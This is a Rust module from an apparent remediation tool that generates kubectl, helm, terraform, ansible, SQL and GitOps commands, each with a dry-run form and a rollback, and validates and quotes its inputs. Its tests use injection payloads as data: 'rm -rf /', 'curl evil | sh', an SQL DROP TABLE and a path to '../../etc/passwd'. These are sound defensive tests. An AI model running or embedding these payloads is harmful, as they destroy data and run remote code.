//! Script generation: one catalog action with rendered parameters becomes a [`Step`] with its
//! command, a dry-run form that changes nothing and a rollback.
//!
//! Commands are built as argv ([`Arg`]) and rendered with [`join`], so every value is quoted
//! once, here; secrets are referenced as environment variables (`"$AWX_TOKEN"`), never
//! inlined. Values that would land in a position where quoting is not enough (a positional
//! argument starting with `-`, an SQL identifier, a Kubernetes name) are validated instead.

use std::collections::BTreeMap;

use faultline_core::Step;
use serde::{Deserialize, Serialize};

use crate::quote::{join, Arg};
use crate::RemediateError;

/// What a catalog action does. Each kind knows its required parameters, its tool and its
/// base risk.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ActionKind {
    /// `kubectl rollout undo` (roll back a recent deploy).
    KubectlRolloutUndo,
    /// `kubectl rollout pause`.
    KubectlRolloutPause,
    /// `kubectl rollout restart`.
    KubectlRolloutRestart,
    /// `kubectl scale`.
    KubectlScale,
    /// `kubectl patch` (limits, quotas, config maps).
    KubectlPatch,
    /// `kubectl set env` (JVM heap flags through `JAVA_TOOL_OPTIONS`, feature flags).
    KubectlSetEnv,
    /// `helm rollback`.
    HelmRollback,
    /// `helm upgrade --reuse-values --set …` (values change).
    HelmValues,
    /// `terraform apply` of variable changes.
    TerraformVars,
    /// `ansible-playbook` with extra vars.
    AnsiblePlaybook,
    /// An SQL migration with its down step (`psql`).
    SqlMigration,
    /// An index for a slow query (`CREATE INDEX` / `DROP INDEX`).
    SqlIndex,
    /// A value change in a file of a GitOps repository (`gitops set FILE KEY VALUE`).
    GitopsSet,
    /// AWX / Ansible controller job template launch.
    AwxLaunch,
    /// Terraform Cloud run with variables.
    TfcRun,
    /// ServiceNow incident.
    ServicenowIncident,
    /// Jira issue.
    JiraIssue,
    /// Slack message.
    SlackMessage,
    /// PagerDuty event.
    PagerdutyEvent,
    /// A custom command from templates (`script`, `dry_run`, `rollback`), every value
    /// auto-quoted.
    Shell,
}

impl ActionKind {
    /// The snake_case name used in catalogs and steps.
    pub fn name(self) -> &'static str {
        match self {
            Self::KubectlRolloutUndo => "kubectl_rollout_undo",
            Self::KubectlRolloutPause => "kubectl_rollout_pause",
            Self::KubectlRolloutRestart => "kubectl_rollout_restart",
            Self::KubectlScale => "kubectl_scale",
            Self::KubectlPatch => "kubectl_patch",
            Self::KubectlSetEnv => "kubectl_set_env",
            Self::HelmRollback => "helm_rollback",
            Self::HelmValues => "helm_values",
            Self::TerraformVars => "terraform_vars",
            Self::AnsiblePlaybook => "ansible_playbook",
            Self::SqlMigration => "sql_migration",
            Self::SqlIndex => "sql_index",
            Self::GitopsSet => "gitops_set",
            Self::AwxLaunch => "awx_launch",
            Self::TfcRun => "tfc_run",
            Self::ServicenowIncident => "servicenow_incident",
            Self::JiraIssue => "jira_issue",
            Self::SlackMessage => "slack_message",
            Self::PagerdutyEvent => "pagerduty_event",
            Self::Shell => "shell",
        }
    }

    /// Parameters that must be present (checked when a catalog loads).
    pub fn required_params(self) -> &'static [&'static str] {
        match self {
            Self::KubectlRolloutUndo | Self::KubectlRolloutPause | Self::KubectlRolloutRestart => {
                &["deployment", "namespace"]
            }
            Self::KubectlScale => &["deployment", "namespace", "replicas", "previous_replicas"],
            Self::KubectlPatch => &["resource", "namespace", "patch", "previous_patch"],
            Self::KubectlSetEnv => &["deployment", "namespace", "name", "value"],
            Self::HelmRollback => &["release", "namespace"],
            Self::HelmValues => &["release", "chart", "namespace"],
            Self::TerraformVars => &["dir"],
            Self::AnsiblePlaybook => &["playbook", "inventory"],
            Self::SqlMigration => &["up", "down"],
            Self::SqlIndex => &["table", "columns"],
            Self::GitopsSet => &["file", "key", "value", "previous_value"],
            Self::AwxLaunch => &["base_url", "template_id"],
            Self::TfcRun => &["workspace_id", "message"],
            Self::ServicenowIncident => &["base_url", "short_description"],
            Self::JiraIssue => &["base_url", "project", "summary"],
            Self::SlackMessage => &["channel", "text"],
            Self::PagerdutyEvent => &["summary", "dedup_key"],
            Self::Shell => &["script", "dry_run", "rollback"],
        }
    }

    /// Intrinsic risk of the action in [0, 1], before environment and confidence adjust it
    /// (see [`crate::risk`]).
    pub fn base_risk(self) -> f64 {
        match self {
            Self::KubectlRolloutPause => 0.1,
            Self::KubectlScale => 0.15,
            Self::KubectlRolloutRestart => 0.2,
            Self::KubectlRolloutUndo | Self::GitopsSet => 0.3,
            Self::HelmRollback | Self::KubectlSetEnv => 0.35,
            Self::KubectlPatch | Self::HelmValues | Self::AnsiblePlaybook | Self::AwxLaunch => 0.4,
            Self::SqlIndex => 0.45,
            Self::TerraformVars | Self::TfcRun | Self::Shell => 0.5,
            Self::SqlMigration => 0.6,
            Self::ServicenowIncident | Self::JiraIssue | Self::SlackMessage | Self::PagerdutyEvent => 0.02,
        }
    }

    /// Whether the action only informs people (tickets, chat, paging) and changes no system.
    pub fn is_notification(self) -> bool {
        matches!(
            self,
            Self::ServicenowIncident | Self::JiraIssue | Self::SlackMessage | Self::PagerdutyEvent
        )
    }
}

/// An action whose templates have been rendered: plain strings, not yet quoted.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct RenderedAction {
    /// Scalar parameters.
    pub params: BTreeMap<String, String>,
    /// Key/value settings (`--set`, `-var`, extra vars, HTTP variables).
    pub values: BTreeMap<String, String>,
    /// The settings' values before the change (for rollbacks).
    pub previous: BTreeMap<String, String>,
}

impl RenderedAction {
    fn get(&self, kind: ActionKind, name: &str) -> Result<&str, RemediateError> {
        match self.params.get(name) {
            Some(v) if !v.trim().is_empty() => Ok(v.trim()),
            _ => Err(RemediateError::MissingParam {
                action: kind.name().into(),
                param: name.into(),
            }),
        }
    }
    fn opt(&self, name: &str) -> Option<&str> {
        self.params.get(name).map(|s| s.trim()).filter(|s| !s.is_empty())
    }
}

fn invalid(field: &str, value: &str, reason: &str) -> RemediateError {
    RemediateError::InvalidValue {
        field: field.into(),
        value: value.into(),
        reason: reason.into(),
    }
}

/// A Kubernetes object name (RFC 1123 subdomain).
pub(crate) fn k8s_name(field: &str, v: &str) -> Result<String, RemediateError> {
    let ok = !v.is_empty()
        && v.len() <= 253
        && v.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
        && v.as_bytes()[0].is_ascii_alphanumeric()
        && v.as_bytes()[v.len() - 1].is_ascii_alphanumeric();
    if ok {
        Ok(v.to_owned())
    } else {
        Err(invalid(
            field,
            v,
            "not a Kubernetes name (lowercase letters, digits, '-', '.')",
        ))
    }
}

/// A value placed where a program parses options: it must not look like one.
fn positional(field: &str, v: &str) -> Result<String, RemediateError> {
    if v.starts_with('-') {
        Err(invalid(field, v, "must not start with '-'"))
    } else {
        Ok(v.to_owned())
    }
}

fn number(field: &str, v: &str) -> Result<u32, RemediateError> {
    v.parse::<u32>()
        .map_err(|_| invalid(field, v, "not a non-negative integer"))
}

/// An SQL identifier, possibly schema-qualified.
fn sql_ident(field: &str, v: &str) -> Result<String, RemediateError> {
    let ok = !v.is_empty()
        && v.len() <= 127
        && v.split('.').all(|part| {
            let mut c = part.chars();
            matches!(c.next(), Some(ch) if ch.is_ascii_alphabetic() || ch == '_')
                && c.all(|ch| ch.is_ascii_alphanumeric() || ch == '_')
        });
    if ok {
        Ok(v.to_owned())
    } else {
        Err(invalid(field, v, "not an SQL identifier"))
    }
}

/// A path inside a repository: relative, no `..`.
pub(crate) fn repo_path(field: &str, v: &str) -> Result<String, RemediateError> {
    let p = std::path::Path::new(v);
    let ok = !v.is_empty()
        && p.is_relative()
        && p.components()
            .all(|c| matches!(c, std::path::Component::Normal(_)));
    if ok {
        Ok(v.to_owned())
    } else {
        Err(invalid(field, v, "must be a relative path without '..'"))
    }
}

fn env_name(field: &str, v: &str) -> Result<String, RemediateError> {
    if crate::quote::is_env_name(v) {
        Ok(v.to_owned())
    } else {
        Err(invalid(field, v, "not an environment variable name"))
    }
}

/// Helm's `--set` treats `,` and `\` specially; escape them so a value stays one value.
fn helm_escape(v: &str) -> String {
    v.replace('\\', "\\\\").replace(',', "\\,")
}

fn lits<const N: usize>(words: [&str; N]) -> Vec<Arg> {
    words.iter().map(|w| Arg::Lit((*w).to_owned())).collect()
}

fn with(mut v: Vec<Arg>, extra: &[&str]) -> Vec<Arg> {
    v.extend(extra.iter().map(|w| Arg::Lit((*w).to_owned())));
    v
}

fn echo(msg: &str) -> String {
    join(&[Arg::Lit("echo".into()), Arg::Lit(msg.to_owned())])
}

/// Builds the step for `kind` from rendered parameters.
///
/// ```
/// use faultline_remediate::actions::{generate, ActionKind, RenderedAction};
/// let mut a = RenderedAction::default();
/// a.params.insert("deployment".into(), "checkout".into());
/// a.params.insert("namespace".into(), "shop".into());
/// let step = generate(ActionKind::KubectlRolloutUndo, &a).unwrap();
/// assert_eq!(step.script, "kubectl rollout undo deployment/checkout -n shop");
/// assert_eq!(step.dry_run, "kubectl rollout undo deployment/checkout -n shop --dry-run=server");
/// ```
pub fn generate(kind: ActionKind, a: &RenderedAction) -> Result<Step, RemediateError> {
    use ActionKind as K;
    let step = |target: String, script: Vec<Arg>, dry: Vec<Arg>, rollback: String| Step {
        action: kind.name().to_owned(),
        target,
        script: join(&script),
        dry_run: join(&dry),
        rollback,
    };
    Ok(match kind {
        K::KubectlRolloutUndo | K::KubectlRolloutPause | K::KubectlRolloutRestart => {
            let dep = format!(
                "deployment/{}",
                k8s_name("deployment", a.get(kind, "deployment")?)?
            );
            let ns = k8s_name("namespace", a.get(kind, "namespace")?)?;
            let target = format!("{dep} in namespace {ns}");
            let base = |verb: &str| lits(["kubectl", "rollout", verb, &dep, "-n", &ns]);
            match kind {
                K::KubectlRolloutUndo => {
                    let mut s = base("undo");
                    if let Some(r) = a.opt("to_revision") {
                        s.push(Arg::Lit(format!("--to-revision={}", number("to_revision", r)?)));
                    }
                    let dry = with(s.clone(), &["--dry-run=server"]);
                    // Undoing an undo returns to the revision it replaced.
                    step(target, s, dry, join(&base("undo")))
                }
                K::KubectlRolloutPause => step(
                    target,
                    base("pause"),
                    lits(["kubectl", "get", &dep, "-n", &ns, "-o", "name"]),
                    join(&base("resume")),
                ),
                _ => step(
                    target,
                    base("restart"),
                    with(base("restart"), &["--dry-run=server"]),
                    join(&base("undo")),
                ),
            }
        }
        K::KubectlScale => {
            let dep = format!(
                "deployment/{}",
                k8s_name("deployment", a.get(kind, "deployment")?)?
            );
            let ns = k8s_name("namespace", a.get(kind, "namespace")?)?;
            let n = number("replicas", a.get(kind, "replicas")?)?;
            let prev = number("previous_replicas", a.get(kind, "previous_replicas")?)?;
            let s = lits(["kubectl", "scale", &dep, "-n", &ns, &format!("--replicas={n}")]);
            let rb = lits(["kubectl", "scale", &dep, "-n", &ns, &format!("--replicas={prev}")]);
            step(
                format!("{dep} in namespace {ns}"),
                s.clone(),
                with(s, &["--dry-run=server"]),
                join(&rb),
            )
        }
        K::KubectlPatch => {
            let res = a.get(kind, "resource")?;
            let (rk, rn) = res
                .split_once('/')
                .ok_or_else(|| invalid("resource", res, "expected KIND/NAME"))?;
            let res = format!("{}/{}", k8s_name("resource", rk)?, k8s_name("resource", rn)?);
            let ns = k8s_name("namespace", a.get(kind, "namespace")?)?;
            let ty = a.opt("patch_type").unwrap_or("strategic");
            if !matches!(ty, "strategic" | "merge" | "json") {
                return Err(invalid("patch_type", ty, "expected strategic, merge or json"));
            }
            let patch = a.get(kind, "patch")?;
            let prev = a.get(kind, "previous_patch")?;
            for (f, p) in [("patch", patch), ("previous_patch", prev)] {
                serde_json::from_str::<serde_json::Value>(p).map_err(|e| invalid(f, p, &e.to_string()))?;
            }
            let cmd = |p: &str| {
                lits([
                    "kubectl",
                    "patch",
                    &res,
                    "-n",
                    &ns,
                    &format!("--type={ty}"),
                    "-p",
                    p,
                ])
            };
            step(
                format!("{res} in namespace {ns}"),
                cmd(patch),
                with(cmd(patch), &["--dry-run=server"]),
                join(&cmd(prev)),
            )
        }
        K::KubectlSetEnv => {
            let dep = format!(
                "deployment/{}",
                k8s_name("deployment", a.get(kind, "deployment")?)?
            );
            let ns = k8s_name("namespace", a.get(kind, "namespace")?)?;
            let name = env_name("name", a.get(kind, "name")?)?;
            let value = a.params.get("value").map(String::as_str).unwrap_or("");
            let cmd = |assign: String| lits(["kubectl", "set", "env", &dep, "-n", &ns, &assign]);
            let s = cmd(format!("{name}={value}"));
            // No previous value means the variable was unset: remove it (`NAME-`).
            let rb = match a.params.get("previous_value").map(|s| s.as_str()) {
                Some(p) if !p.is_empty() => cmd(format!("{name}={p}")),
                _ => cmd(format!("{name}-")),
            };
            step(
                format!("{dep} in namespace {ns}"),
                s.clone(),
                with(s, &["--dry-run=server"]),
                join(&rb),
            )
        }
        K::HelmRollback => {
            let rel = k8s_name("release", a.get(kind, "release")?)?;
            let ns = k8s_name("namespace", a.get(kind, "namespace")?)?;
            let rev = number("revision", a.opt("revision").unwrap_or("0"))?;
            let cur = number("current_revision", a.opt("current_revision").unwrap_or("0"))?;
            let cmd = |r: u32| lits(["helm", "rollback", &rel, &r.to_string(), "-n", &ns, "--wait"]);
            step(
                format!("helm release {rel} in namespace {ns}"),
                cmd(rev),
                with(cmd(rev), &["--dry-run"]),
                join(&cmd(cur)),
            )
        }
        K::HelmValues => {
            let rel = k8s_name("release", a.get(kind, "release")?)?;
            let chart = positional("chart", a.get(kind, "chart")?)?;
            let ns = k8s_name("namespace", a.get(kind, "namespace")?)?;
            if a.values.is_empty() {
                return Err(RemediateError::MissingParam {
                    action: kind.name().into(),
                    param: "values".into(),
                });
            }
            let mut s = lits([
                "helm",
                "upgrade",
                &rel,
                &chart,
                "-n",
                &ns,
                "--reuse-values",
                "--wait",
            ]);
            for (k, v) in &a.values {
                s.push(Arg::Lit("--set".into()));
                s.push(Arg::Lit(format!("{}={}", helm_escape(k), helm_escape(v))));
            }
            let dry = with(s.clone(), &["--dry-run"]);
            // Revision 0 is the previous release.
            let rb = lits(["helm", "rollback", &rel, "0", "-n", &ns, "--wait"]);
            step(format!("helm release {rel} in namespace {ns}"), s, dry, join(&rb))
        }
        K::TerraformVars => {
            let dir = positional("dir", a.get(kind, "dir")?)?;
            if a.values.is_empty() {
                return Err(RemediateError::MissingParam {
                    action: kind.name().into(),
                    param: "values".into(),
                });
            }
            let chdir = format!("-chdir={dir}");
            let vars = |m: &BTreeMap<String, String>| -> Result<Vec<Arg>, RemediateError> {
                let mut v = Vec::new();
                for (k, val) in m {
                    env_name("terraform variable", k)?;
                    v.push(Arg::Lit("-var".into()));
                    v.push(Arg::Lit(format!("{k}={val}")));
                }
                Ok(v)
            };
            let mut s = lits(["terraform", &chdir, "apply", "-auto-approve", "-input=false"]);
            s.extend(vars(&a.values)?);
            let mut dry = lits(["terraform", &chdir, "plan", "-input=false"]);
            dry.extend(vars(&a.values)?);
            for k in a.values.keys() {
                if !a.previous.contains_key(k) {
                    return Err(RemediateError::MissingParam {
                        action: kind.name().into(),
                        param: format!("previous.{k}"),
                    });
                }
            }
            let mut rb = lits(["terraform", &chdir, "apply", "-auto-approve", "-input=false"]);
            rb.extend(vars(&a.previous)?);
            step(format!("terraform root {dir}"), s, dry, join(&rb))
        }
        K::AnsiblePlaybook => {
            let pb = positional("playbook", a.get(kind, "playbook")?)?;
            let inv = positional("inventory", a.get(kind, "inventory")?)?;
            let extra = serde_json::to_string(&a.values).unwrap_or_default();
            let cmd = |book: &str| {
                let mut v = lits(["ansible-playbook", book, "-i", &inv]);
                if let Some(l) = a.opt("limit") {
                    v.extend(lits(["-l", l]));
                }
                v.extend(lits(["-e", &extra]));
                v
            };
            let s = cmd(&pb);
            let dry = with(s.clone(), &["--check", "--diff"]);
            let rb = match a.opt("rollback_playbook") {
                Some(r) => join(&cmd(&positional("rollback_playbook", r)?)),
                None => echo(&format!(
                    "no automatic rollback for {pb}: {}",
                    a.opt("rollback_note").unwrap_or("undo by hand")
                )),
            };
            step(format!("ansible playbook {pb} on {inv}"), s, dry, rb)
        }
        K::SqlMigration | K::SqlIndex => {
            let db_env = env_name(
                "database_url_env",
                a.opt("database_url_env").unwrap_or("DATABASE_URL"),
            )?;
            let (up, down, target) = if kind == K::SqlIndex {
                let table = sql_ident("table", a.get(kind, "table")?)?;
                let cols = a
                    .get(kind, "columns")?
                    .split(',')
                    .map(|c| sql_ident("columns", c.trim()))
                    .collect::<Result<Vec<_>, _>>()?;
                let default_name = format!("idx_{}_{}", table.replace('.', "_"), cols.join("_"));
                let name = sql_ident("index_name", a.opt("index_name").unwrap_or(&default_name))?;
                (
                    format!(
                        "CREATE INDEX IF NOT EXISTS {name} ON {table} ({})",
                        cols.join(", ")
                    ),
                    format!("DROP INDEX IF EXISTS {name}"),
                    format!("table {table}"),
                )
            } else {
                (
                    a.get(kind, "up")?.to_owned(),
                    a.get(kind, "down")?.to_owned(),
                    format!("database ${db_env}"),
                )
            };
            let psql = |extra: &[&str]| {
                let mut v = vec![Arg::Lit("psql".into()), Arg::Env(db_env.clone())];
                v.extend(lits(["-X", "-v", "ON_ERROR_STOP=1"]));
                v.extend(extra.iter().map(|s| Arg::Lit((*s).to_owned())));
                v
            };
            // The dry run executes the migration inside a transaction that is rolled back.
            step(
                target,
                psql(&["--single-transaction", "-c", &up]),
                psql(&["-c", "BEGIN", "-c", &up, "-c", "ROLLBACK"]),
                join(&psql(&["--single-transaction", "-c", &down])),
            )
        }
        K::GitopsSet => {
            let file = repo_path("file", a.get(kind, "file")?)?;
            let key = positional("key", a.get(kind, "key")?)?;
            let value = a.params.get("value").cloned().unwrap_or_default();
            let prev = a.params.get("previous_value").cloned().unwrap_or_default();
            step(
                format!("{file}: {key}"),
                lits(["gitops", "set", &file, &key, &value]),
                lits(["gitops", "diff", &file, &key, &value]),
                join(&lits(["gitops", "set", &file, &key, &prev])),
            )
        }
        K::AwxLaunch
        | K::TfcRun
        | K::ServicenowIncident
        | K::JiraIssue
        | K::SlackMessage
        | K::PagerdutyEvent => crate::http::generate(kind, a)?,
        K::Shell => {
            // Rendered by the catalog with the auto-quoting formatter; re-split to make sure
            // each form is a plain command (no operators).
            let script = a.get(kind, "script")?;
            let dry = a.get(kind, "dry_run")?;
            let rb = a.get(kind, "rollback")?;
            for s in [script, dry, rb] {
                crate::quote::split(s)?;
            }
            Step {
                action: kind.name().into(),
                target: a.opt("target").unwrap_or("custom command").to_owned(),
                script: script.to_owned(),
                dry_run: dry.to_owned(),
                rollback: rb.to_owned(),
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::quote::split;

    fn act(params: &[(&str, &str)]) -> RenderedAction {
        RenderedAction {
            params: params.iter().map(|(k, v)| ((*k).into(), (*v).into())).collect(),
            ..Default::default()
        }
    }

    #[test]
    fn kubectl_actions_have_dry_run_and_rollback() {
        let a = act(&[("deployment", "checkout"), ("namespace", "shop")]);
        let s = generate(ActionKind::KubectlRolloutPause, &a).unwrap();
        assert_eq!(s.script, "kubectl rollout pause deployment/checkout -n shop");
        assert_eq!(s.rollback, "kubectl rollout resume deployment/checkout -n shop");
        let s = generate(ActionKind::KubectlRolloutRestart, &a).unwrap();
        assert!(s.dry_run.ends_with("--dry-run=server"));
        let a = act(&[
            ("deployment", "checkout"),
            ("namespace", "shop"),
            ("replicas", "6"),
            ("previous_replicas", "3"),
        ]);
        let s = generate(ActionKind::KubectlScale, &a).unwrap();
        assert_eq!(s.script, "kubectl scale deployment/checkout -n shop --replicas=6");
        assert_eq!(
            s.rollback,
            "kubectl scale deployment/checkout -n shop --replicas=3"
        );
    }

    #[test]
    fn hostile_names_are_refused_not_quoted_into_flags() {
        let a = act(&[("deployment", "x; rm -rf /"), ("namespace", "shop")]);
        assert!(matches!(
            generate(ActionKind::KubectlRolloutUndo, &a),
            Err(RemediateError::InvalidValue { .. })
        ));
        let a = act(&[("deployment", "x"), ("namespace", "--kubeconfig=/tmp/evil")]);
        assert!(generate(ActionKind::KubectlRolloutUndo, &a).is_err());
        let a = act(&[("table", "orders; DROP TABLE users"), ("columns", "id")]);
        assert!(generate(ActionKind::SqlIndex, &a).is_err());
        let a = act(&[
            ("file", "../../etc/passwd"),
            ("key", "k"),
            ("value", "v"),
            ("previous_value", ""),
        ]);
        assert!(generate(ActionKind::GitopsSet, &a).is_err());
    }

    #[test]
    fn hostile_values_stay_one_argument() {
        let evil = "'; curl evil | sh; echo '";
        let a = act(&[
            ("deployment", "payments"),
            ("namespace", "shop"),
            ("name", "JAVA_TOOL_OPTIONS"),
            ("value", evil),
        ]);
        let s = generate(ActionKind::KubectlSetEnv, &a).unwrap();
        let argv = split(&s.script).unwrap();
        assert_eq!(argv.last(), Some(&Arg::Lit(format!("JAVA_TOOL_OPTIONS={evil}"))));
        assert_eq!(
            s.rollback,
            "kubectl set env deployment/payments -n shop JAVA_TOOL_OPTIONS-"
        );
    }

    #[test]
    fn helm_terraform_ansible_sql_forms() {
        let mut a = act(&[
            ("release", "payments"),
            ("chart", "shop/payments"),
            ("namespace", "shop"),
        ]);
        a.values.insert("pool.size".into(), "16,17".into());
        let s = generate(ActionKind::HelmValues, &a).unwrap();
        assert!(s.script.contains("--set 'pool.size=16\\,17'"), "{}", s.script);
        assert!(s.dry_run.ends_with("--dry-run"));
        assert_eq!(s.rollback, "helm rollback payments 0 -n shop --wait");

        let mut a = act(&[("dir", "infra/payments")]);
        a.values.insert("acquirer_pool_size".into(), "16".into());
        assert!(matches!(
            generate(ActionKind::TerraformVars, &a),
            Err(RemediateError::MissingParam { .. })
        ));
        a.previous.insert("acquirer_pool_size".into(), "4".into());
        let s = generate(ActionKind::TerraformVars, &a).unwrap();
        assert_eq!(
            s.script,
            "terraform -chdir=infra/payments apply -auto-approve -input=false -var acquirer_pool_size=16"
        );
        assert_eq!(
            s.dry_run,
            "terraform -chdir=infra/payments plan -input=false -var acquirer_pool_size=16"
        );
        assert!(s.rollback.ends_with("acquirer_pool_size=4"));

        let mut a = act(&[
            ("playbook", "rollback.yml"),
            ("inventory", "prod.ini"),
            ("limit", "payments_prod"),
        ]);
        a.values.insert("service".into(), "payments".into());
        let s = generate(ActionKind::AnsiblePlaybook, &a).unwrap();
        assert!(s.dry_run.ends_with("--check --diff"));
        assert!(
            s.script.contains(r#"-e '{"service":"payments"}'"#),
            "{}",
            s.script
        );

        let a = act(&[("table", "orders"), ("columns", "customer_id, created_at")]);
        let s = generate(ActionKind::SqlIndex, &a).unwrap();
        assert!(s.script.contains("'CREATE INDEX IF NOT EXISTS idx_orders_customer_id_created_at ON orders (customer_id, created_at)'"));
        assert!(s.dry_run.contains("-c BEGIN") && s.dry_run.ends_with("-c ROLLBACK"));
        assert!(s
            .rollback
            .contains("DROP INDEX IF EXISTS idx_orders_customer_id_created_at"));
        assert!(s.script.starts_with("psql \"$DATABASE_URL\""));
    }

    #[test]
    fn missing_param_is_named() {
        let a = act(&[("deployment", "x")]);
        match generate(ActionKind::KubectlRolloutUndo, &a) {
            Err(RemediateError::MissingParam { param, .. }) => assert_eq!(param, "namespace"),
            other => panic!("{other:?}"),
        }
    }
}
